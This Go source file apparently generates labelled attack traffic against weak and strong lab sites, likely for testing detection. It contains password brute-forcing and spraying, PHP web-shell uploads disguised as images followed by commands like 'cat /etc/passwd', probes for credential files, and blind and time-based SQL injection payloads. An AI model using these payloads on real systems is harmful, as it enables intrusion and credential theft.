package main

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"strings"
)

// both runs f against the weak site and the other one.
func both(f func(weak bool)) {
	f(true)
	f(false)
}

// variant is a campaign's name against one of the sites.
func variant(name string, weak bool) string {
	if weak {
		return name + ", weak"
	}
	return name + ", strong"
}

// attackByHand runs all hand-written campaigns, with ordinary traffic between them.
func (l *lab) attackByHand(meanwhile func(requests int)) {
	for i, w := range arsenal() {
		both(func(weak bool) {
			l.use(w, weak, i)
			meanwhile(8)
		})
	}
	for _, campaign := range []func(*lab, bool){(*lab).guessForm, (*lab).guessBasic, (*lab).spray, (*lab).uploadShell, (*lab).lookAround, (*lab).readBlindly, (*lab).readSlowly} {
		both(func(weak bool) {
			campaign(l, weak)
			meanwhile(8)
		})
	}
}

// attacker is a new client who begins by looking at the site.
func (l *lab) attacker(name string, weak bool, headers [][2]string) *session {
	s := l.visit(weak, variant(name, weak), l.newClient("198.18"), headers)
	for _, target := range []string{"/", "/search?q=lamp", "/page?name=about"} {
		s.send(around, "", request{target: target})
	}
	return s
}

// use tries each payload at each place.
func (l *lab) use(w weapon, weak bool, number int) {
	s := l.attacker(w.name, weak, [][][2]string{firefox, curl, python, chrome, golang}[number%5])
	spellings := w.spellings
	if len(spellings) == 0 {
		spellings = []func(string) string{plain}
	}
	for i, p := range w.places {
		for j, payload := range w.payloads {
			s.send(attack, w.kind, p(way(spellings, i+j)(payload), i+j))
			if w.after.target != "" {
				s.send(around, "", w.after)
			}
		}
	}
}

// passwords are those that people have, in the order in which lists have them; some of the weak site's are among them.
var passwords = strings.Fields("123456 password 12345678 qwerty 123456789 letmein 1234567 football iloveyou admin welcome monkey login abc123 starwars 123123 dragon passw0rd master hello freedom whatever qazwsx trustno1 qwerty123 summer2024")

// guessForm: many passwords for two users, at a form that answers with 200 in either case, and one that answers with 401.
func (l *lab) guessForm(weak bool) {
	s := l.attacker("guesses at a form", weak, python)
	for _, user := range []string{"admin", "alice"} {
		for _, password := range passwords {
			s.send(attack, "login", request{method: http.MethodPost, target: "/signin", kind: form, body: "user=" + user + "&password=" + url.QueryEscape(password)})
		}
	}
	s = l.attacker("guesses at an API", weak, golang)
	for _, password := range passwords {
		s.send(attack, "login", request{method: http.MethodPost, target: "/api/session", kind: "application/json", body: fmt.Sprintf(`{"user":"bob","password":%q}`, password)})
	}
}

func (l *lab) guessBasic(weak bool) {
	s := l.attacker("guesses with Basic", weak, curl)
	for _, password := range passwords {
		s.send(attack, "login", request{target: "/basic", headers: [][2]string{{"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte("admin:"+password))}}})
	}
}

// spray: one password for many users, from many addresses.
func (l *lab) spray(weak bool) {
	for i, user := range []string{"anna", "bert", "carol", "admin", "dora", "emil", "alice", "fred", "greta", "bob", "hugo", "ida"} {
		s := l.visit(weak, variant("spraying", weak), l.newClient("198.19"), browsers[i%3])
		for _, password := range []string{"qwerty123", "summer2024", "letmein"} {
			s.send(attack, "login", request{method: http.MethodPost, target: "/signin", kind: form, body: "user=" + user + "&password=" + password})
		}
	}
}

// uploadShell: scripts as files, and what they are for.
func (l *lab) uploadShell(weak bool) {
	s := l.attacker("scripts as files", weak, firefox)
	for _, u := range []struct{ name, kind, text string }{
		{"shell.php", "application/x-php", "<?php system($_GET['c']); ?>"},
		{"photo.php", "image/png", "\x89PNG\r\n<?php echo shell_exec($_REQUEST[\"c\"]); ?>"},
		{"info.phtml", "text/plain", "<?php phpinfo(); ?>"},
		{"x.php5", "image/gif", "GIF89a<?php passthru($_GET['c']); ?>"},
		{"cat.png", "image/png", "\x89PNG\r\n\x1a\n cat"},
	} {
		s.send(attack, "upload", multipart("/upload", part("file", u.name, u.kind, u.text)))
		for _, command := range []string{"id", "cat /etc/passwd", "uname -a"} {
			s.send(attack, "webshell", request{target: "/files/" + u.name + "?c=" + url.QueryEscape(command)})
		}
	}
}

// lookAround asks for what servers often have.
func (l *lab) lookAround(weak bool) {
	s := l.attacker("looking around", weak, golang)
	for _, name := range strings.Fields("admin login wp-login.php wp-admin phpmyadmin .env .git/HEAD .git/config backup backup.sql backup.zip db.sql dump.sql config.php config.yml server-status actuator/env actuator/heapdump phpinfo.php info.php test.php " +
		"console manager/html .htaccess .htpasswd web.config WEB-INF/web.xml api/v1 swagger.json graphql robots.txt sitemap.xml old new tmp uploads .svn/entries .DS_Store id_rsa .ssh/id_rsa .aws/credentials vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php cgi-bin/test.cgi shell.php cmd.php") {
		kind := "scan"
		if strings.ContainsAny(name, ".") || strings.HasPrefix(name, "actuator") || name == "server-status" || strings.Contains(name, "WEB-INF") {
			kind = "exposed"
		}
		s.send(attack, kind, request{target: "/" + name})
	}
}

// readBlindly reads a password sign by sign, from answers that differ.
func (l *lab) readBlindly(weak bool) {
	s := l.attacker("blind reading", weak, python)
	for at := 1; at <= 3; at++ {
		for _, sign := range "0123456789abcdf" {
			q := fmt.Sprintf("1 AND (SELECT substr(password,%d,1) FROM users WHERE id=1)='%c'", at, sign)
			s.send(attack, "sqli", request{target: "/item?id=" + url.QueryEscape(q)})
		}
	}
}

// readSlowly does the same with a page that says nothing, by the time that it takes.
func (l *lab) readSlowly(weak bool) {
	s := l.attacker("slow reading", weak, python)
	for _, sign := range "0123456789abcdef" {
		q := fmt.Sprintf("v-1001' AND (SELECT CASE WHEN substr(password,1,1)='%c' THEN sleep(3) ELSE 0 END FROM users WHERE id=1)=0 -- -", sign)
		s.send(attack, "sqli", request{target: "/", headers: [][2]string{{"Cookie", "visitor=" + strings.ReplaceAll(q, " ", "%20")}}})
	}
}
